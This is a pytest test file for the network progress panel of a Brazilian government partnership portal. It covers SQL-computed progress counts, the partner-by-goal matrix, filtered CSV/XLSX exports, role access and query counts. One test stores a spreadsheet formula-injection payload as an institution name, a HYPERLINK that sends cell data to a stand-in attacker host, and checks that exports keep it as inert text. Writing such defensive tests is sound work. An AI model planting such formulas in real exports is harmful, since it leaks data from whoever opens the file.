"""Painel da Rede: aggregates in SQL, filters, the matrix, exports and a constant query count."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
import time_machine
from flask import request
from openpyxl import load_workbook

from portal.agreements.models import Goal
from portal.deliverables.models import Deliverable
from portal.extensions import db
from portal.panel import services as panel
from portal.panel.forms import PanelFilterForm
from portal.plans import services as plans
from portal.plans.importer import parse_plan, read_seed_plan
from tests import clock, factories


def _deliverable(agreement, code: str, key: str, institution_id: int) -> Deliverable:
    return db.session.scalar(
        db.select(Deliverable).join(Goal).where(
            Goal.agreement_id == agreement.id, Goal.code == code,
            Deliverable.period_key == key, Deliverable.institution_id == institution_id))


@pytest.fixture
def network(users):
    """MG's and ES's ACTs from the seed (01/10/2025, 5 years). Each partner owes, with a
    date in the plan: 1.2 (once, 16/10/2025), 2.2 C2025 (31/12/2025), and the Y1 of 2.1,
    3.2 and 3.4 (30/09/2026) — 5 by 01/10/2026; and a SEGES follow-up R2025 of each of its
    10 continuous goals (1.1, 1.5, 1.6, 2.3, 3.1, 3.3, 3.7, C.3, C.5, C.6), due on
    02/03/2026 (31/03/2026 − 30 days is Sunday 01/03). ES's are all left pending; MG:
    1.2 and C2025 approved, 3.4 Y1 submitted, 2.1 Y1 returned, 1.1 R2025 submitted."""
    mg_act = factories.seed_agreement()
    factories.seed_agreement(number="161/2025", partner=users["other_manager"].institution)
    mg = users["partner_manager"].institution_id
    for code, key, status in (("1.2", "once", "approved"), ("2.2", "C2025", "approved"),
                              ("3.4", "Y1", "submitted"), ("2.1", "Y1", "returned"),
                              ("1.1", "R2025", "submitted")):
        _deliverable(mg_act, code, key, mg).status = status
    db.session.commit()
    return {"mg": mg, "es": users["other_manager"].institution_id, "act": mg_act}


PARTNERS = "Progresso por parceiro"  # the caption of the panel's table of partners


def _row(rows, institution_id):
    return next(r for r in rows if r.id == institution_id)


def _counts(row) -> tuple:
    return (row.due, row.done, row.overdue, row.followup_late, row.waiting, row.returned,
            round(row.percent))


def _progress(day: date) -> list:
    return db.session.execute(panel.progress_query(panel.PanelFilters(), day)).all()


def test_progress_by_partner_is_computed_in_sql(network):
    #                        due done late f.late waiting returned %
    rows = _progress(date(2026, 10, 1))
    assert _counts(_row(rows, network["mg"])) == (5, 2, 1, 9, 2, 1, 40)  # 3.2 Y1 late
    assert _counts(_row(rows, network["es"])) == (5, 0, 5, 10, 0, 0, 0)
    # On 30/09/2026 the Y1s are due (counted) but not yet late.
    rows = _progress(date(2026, 9, 30))
    assert _counts(_row(rows, network["mg"])) == (5, 2, 0, 9, 2, 1, 40)
    assert _counts(_row(rows, network["es"])) == (5, 0, 2, 10, 0, 0, 0)
    # Before anything is due: returned and submitted count whatever the date.
    rows = _progress(date(2025, 10, 15))
    assert _counts(_row(rows, network["mg"])) == (0, 0, 0, 0, 2, 1, 0)
    assert _counts(_row(rows, network["es"])) == (0, 0, 0, 0, 0, 0, 0)


def test_a_late_follow_up_is_counted_apart_not_as_overdue(network):
    """On its due date a follow-up is not late; the day after, it is a late *relato* —
    counted in followup_late, never in overdue nor in the due/done of the plan."""
    on_the_day = _row(_progress(date(2026, 3, 2)), network["es"])
    assert _counts(on_the_day) == (2, 0, 2, 0, 0, 0, 0)  # 1.2 and C2025
    next_day = _row(_progress(date(2026, 3, 3)), network["es"])
    assert _counts(next_day) == (2, 0, 2, 10, 0, 0, 0)
    mg = _row(_progress(date(2026, 3, 3)), network["mg"])
    assert _counts(mg) == (2, 2, 0, 9, 2, 1, 100)  # 1.1's follow-up is in review
    totals = panel.totals(panel.PanelFilters(), date(2026, 3, 3))
    assert (totals.due, totals.approved, totals.overdue, totals.followup_late) == (4, 2, 2, 19)


def test_the_panel_page_shows_late_follow_ups_in_their_own_column(client, users, login,
                                                                 network):
    with time_machine.travel(datetime(2026, 10, 1, 15, tzinfo=UTC), tick=False):
        login(users["seges_reviewer"])
        body = client.htmx("/painel?uf=ES").get_data(as_text=True)
    # ES on 01/10/2026: 5 dated by the plan, all late; its 10 follow-ups R2025 late apart.
    assert factories.table_rows(body, PARTNERS) == [{
        "Parceiro": "Governo do Espírito Santo", "UF": "ES", "Elo": "Estados",
        "Progresso": "0 de 5 (0%)", "Atrasadas": "5", "Relatos SEGES atrasados": "10",
        "Aguardando análise": "0",
    }]
    totals = factories.labelled(body, "Totais da Rede")
    assert "0 aprovadas 5 atrasadas 10 relatos de acompanhamento atrasados" in totals


def test_totals(network):
    totals = panel.totals(panel.PanelFilters(), date(2026, 10, 1))
    assert totals == panel.Totals(institutions=2, active_agreements=2, adhesions_this_year=0,
                                  due=10, approved=2, overdue=6, followup_late=19, waiting=2,
                                  returned=1, training_hours=0)
    today = panel.totals(panel.PanelFilters(), clock.today())
    assert today.approved == 2 and today.waiting == 2 and today.returned == 1


def test_the_matrix_shows_each_goals_worst_lifecycle_state(network):
    # 29/09/2026 12:00 in Brasília: the matrix looks one year ahead (to 29/09/2027), so the
    # Y2s (due 30/09/2027) are out of it.
    with time_machine.travel(datetime(2026, 9, 29, 15, tzinfo=UTC), tick=False):
        codes, cells = panel.matrix([network["mg"], network["es"]], panel.PanelFilters())
    mg, es = network["mg"], network["es"]
    assert {"1.2", "2.1", "2.2", "3.4", "1.1"} <= set(codes)
    assert "1.7" not in codes and "3.6" not in codes  # no deliverable of MG or ES
    expected = {
        (mg, "1.2"): ("approved", "Aprovada", "success"),
        (mg, "2.1"): ("returned", "Devolvida", "danger"),
        (mg, "3.2"): ("pending", "A fazer", "info"),  # due tomorrow
        (mg, "3.4"): ("in_review", "Enviada – em análise", "info"),
        # C2025 approved, C2026 (due 31/12/2026) still to do: the worst shows.
        (mg, "2.2"): ("pending", "A fazer", "info"),
        # R2025 in review, R2026 not due yet: "A fazer" is worse than in review.
        (mg, "1.1"): ("pending", "A fazer", "info"),
        (mg, "1.5"): ("followup_late", "Relato pendente (pedido pela SEGES)", "warning"),
        (es, "1.2"): ("late", "Atrasada", "danger"),
    }
    for key, (state, label, tone) in expected.items():
        cell = cells[key]
        assert (cell["state"], cell["label"], cell["tone"]) == (state, label, tone), key
    assert cells[(mg, "2.1")]["deliverable_id"] == _deliverable(
        network["act"], "2.1", "Y1", mg).id


def _table_region(response) -> str:
    """The swapped fragment's target (``#painel``: the table and its export links)."""
    html = response.get_data(as_text=True)
    assert html.count('<div id="painel"') == 1
    return html[html.index('<div id="painel"'):]


def test_panel_page_filters_and_sorts(client, users, login, network):
    login(users["seges_reviewer"])
    page = client.get("/painel").get_data(as_text=True)
    assert "Painel da Rede" in page and "Governo de Minas Gerais" in page
    assert "Governo do Espírito Santo" in page
    fragment = client.htmx("/painel?uf=ES").get_data(as_text=True)
    assert "<html" not in fragment and "Espírito Santo" in fragment
    assert "Governo de Minas Gerais" not in fragment
    ordered = _table_region(client.htmx("/painel?ordem=progresso&direcao=desc"))
    assert ordered.index("Minas Gerais") < ordered.index("Espírito Santo")
    assert "Nenhum parceiro" in client.htmx("/painel?camada=2").get_data(as_text=True)


def test_matrix_drills_down_to_the_deliverable(client, users, login, network):
    login(users["seges_admin"])
    body = client.get("/painel?visao=matriz").get_data(as_text=True)
    assert "Parceiro × meta" in body and "Atrasada" in body and "Aprovada" in body
    assert "/analise/" in body


def _csv(response) -> tuple[list[str], list[list[str]]]:
    """An export's first lines (its filters and order), then its table (headers first)."""
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    blank = lines.index([])
    return [line[0] for line in lines[:blank]], lines[blank + 1:]


def _xlsx(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [tuple(cell for cell in row if cell is not None)
            for row in sheet.iter_rows(values_only=True)]


def test_exports_follow_the_current_filters(client, users, login, network):
    login(users["seges_admin"])
    response = client.get("/painel.csv?uf=MG")
    preamble, rows = _csv(response)
    assert preamble == ["Filtros: UF = Minas Gerais", "Ordem: Nome, crescente"]
    assert rows[0][0] == "Parceiro" and len(rows) == 2 and rows[1][2] == "MG"
    assert response.headers["Content-Disposition"].startswith("attachment")
    rows = _xlsx(client.get("/painel.xlsx"))
    assert rows[:3] == [("Filtros: nenhum",), ("Ordem: Nome, crescente",), ()]
    assert len(rows) == 6 and rows[3][8] == "Progresso (%)"


@pytest.fixture
def adherents(network):
    """Two municipalities adhered to MG's ACT (2nd layer), each owing its own deliverables."""
    for name in ("Prefeitura de Contagem", "Prefeitura de Betim"):
        factories.adhesion(network["act"], name=name, signed_on=date(2025, 11, 3))
    db.session.commit()
    return network


def test_a_filtered_export_holds_exactly_the_listed_partners_in_their_order(
        client, users, login, adherents):
    """The bug: UF = MG, 2ª camada listed 1 row and "Exportar CSV" held every partner."""
    login(users["seges_reviewer"])
    query = "?uf=MG&camada=2&ordem=nome&direcao=desc&visao=tabela"
    listed = [row["Parceiro"].removesuffix(" 2ª camada")
              for row in factories.table_rows(client.get(f"/painel{query}").get_data(
                  as_text=True), PARTNERS)]
    assert listed == ["Prefeitura de Contagem", "Prefeitura de Betim"]
    preamble, rows = _csv(client.get(f"/painel.csv{query}"))
    assert preamble == ["Filtros: UF = Minas Gerais; Camada = 2ª camada (aderentes)",
                        "Ordem: Nome, decrescente"]
    assert [row[0] for row in rows[1:]] == listed
    assert {(row[2], row[5]) for row in rows[1:]} == {("MG", "2ª")}
    sheet = _xlsx(client.get(f"/painel.xlsx{query}"))
    assert [line[0] for line in sheet[:2]] == preamble
    assert [row[0] for row in sheet[4:]] == listed


@pytest.mark.parametrize(("filters", "sort", "descending"), [
    (panel.PanelFilters(), "nome", False),
    (panel.PanelFilters(uf="MG"), "progresso", True),
    (panel.PanelFilters(layer=2), "nome", True),
    (panel.PanelFilters(layer=1, axis=2), "atrasadas", False),
])
def test_export_rows_are_the_pages_rows_in_the_pages_order(adherents, filters, sort,
                                                           descending):
    today = date(2026, 10, 1)
    page = panel.progress_page(filters, today, sort, descending, per_page=100)
    listed = [(row.name, row.due, row.done) for row in page.items]
    exported = [(row[0], row[6], row[7])
                for row in panel.export_rows(filters, today, sort, descending)]
    assert exported == listed and listed


def test_the_export_links_are_redrawn_with_the_filters_of_an_htmx_update(
        client, users, login, network):
    """The filters change through htmx, which swaps ``#painel`` (and, out of band, the
    totals, map and charts above it): the links are in it."""
    login(users["seges_admin"])
    fragment = client.htmx("/painel?visao=tabela&q=&uf=MG&camada=2&ordem=progresso&page=2")
    html = _table_region(fragment)
    exports = {text.strip(): href for text, href in factories.links(html)
               if text.strip().startswith("Exportar")}
    assert exports == {
        "Exportar CSV": "/painel.csv?uf=MG&camada=2&ordem=progresso",
        "Exportar XLSX": "/painel.xlsx?uf=MG&camada=2&ordem=progresso",
    }


@pytest.mark.parametrize(("query", "described"), [
    ({}, ["Filtros: nenhum", "Ordem: Nome, crescente"]),
    ({"q": "minas", "eixo": "2", "ano": "2026", "esfera": "estadual", "elo": "Estados"},
     ["Filtros: Parceiro = minas; Elo = Estados; Esfera = Estadual; "
      "Eixo = 2 — Capacitação; Ano do prazo = 2026", "Ordem: Nome, crescente"]),
    ({"camada": "x", "ano": "abc", "ordem": "zzz", "direcao": "desc"},
     ["Filtros: nenhum", "Ordem: Nome, decrescente"]),  # ignored by the page, not stated
])
def test_an_export_states_the_filters_and_order_the_page_applies(app, query, described):
    with app.test_request_context(query_string=query):
        form = PanelFilterForm(request.args)
        form.validate()
        assert form.described() == described


def test_exports_keep_names_that_look_like_formulas_as_text(client, users, login, network):
    es = users["other_manager"].institution
    es.name = '=HYPERLINK("https://evil.example/?"&A1,"Abrir")'
    db.session.commit()
    login(users["seges_admin"])
    text = client.get("/painel.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in text
    sheet = load_workbook(io.BytesIO(client.get("/painel.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row
             if str(cell.value).startswith("=HYPERLINK")]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_partners_cannot_see_the_panel(client, users, login, network):
    for role in ("partner_manager", "partner_member"):
        login(users[role])
        for url in ("/painel", "/painel.csv", "/painel.xlsx"):
            assert client.get(url).status_code == 403
        client.post("/logout")


def test_query_count_does_not_grow_with_the_network(client, users, login, network):
    login(users["seges_reviewer"])
    urls = ["/painel", "/painel?visao=matriz", "/analise"]
    small = [factories.queries_for(client, url) for url in urls]
    plan = parse_plan(read_seed_plan())
    for i in range(8):
        partner = factories.institution(
            name=f"Município {i}", sphere="municipal", elo="Municípios", uf="BA"
        )
        plans.import_plan(
            plan, start=date(2025, 10, 1), years=5, number=f"{200 + i}/2025", partner=partner
        )
    large = [factories.queries_for(client, url) for url in urls]
    assert large == small


@pytest.mark.parametrize("query", ["camada=x", "eixo=y", "ano=abc", "ordem=zzz&direcao=qq"])
def test_bad_panel_filters_are_ignored_not_500(client, users, login, network, query):
    login(users["seges_admin"])
    assert client.get(f"/painel?{query}").status_code == 200


def test_the_kept_panel_follows_the_rede_and_each_set_of_arguments(
    client, users, login, network, cache_on
):
    login(users["seges_reviewer"])
    page = client.get("/painel").get_data(as_text=True)
    assert "Governo de Minas Gerais" in page
    # Kept: the page asked again reads nothing the panel shows.
    statements = factories.statements(lambda: client.get("/painel"))
    assert not [s for s in statements if "FROM deliverables" in s]
    # Each set of arguments is its own page, and its fragment its own too.
    assert "Governo de Minas Gerais" not in client.htmx("/painel?uf=ES").get_data(as_text=True)
    assert 'value="matriz"' in client.get("/painel?visao=matriz").get_data(as_text=True)

    mg = users["partner_manager"].institution
    mg.name = "Estado de Minas Gerais"
    db.session.commit()
    page = client.get("/painel").get_data(as_text=True)
    assert "Estado de Minas Gerais" in page and "Governo de Minas Gerais" not in page
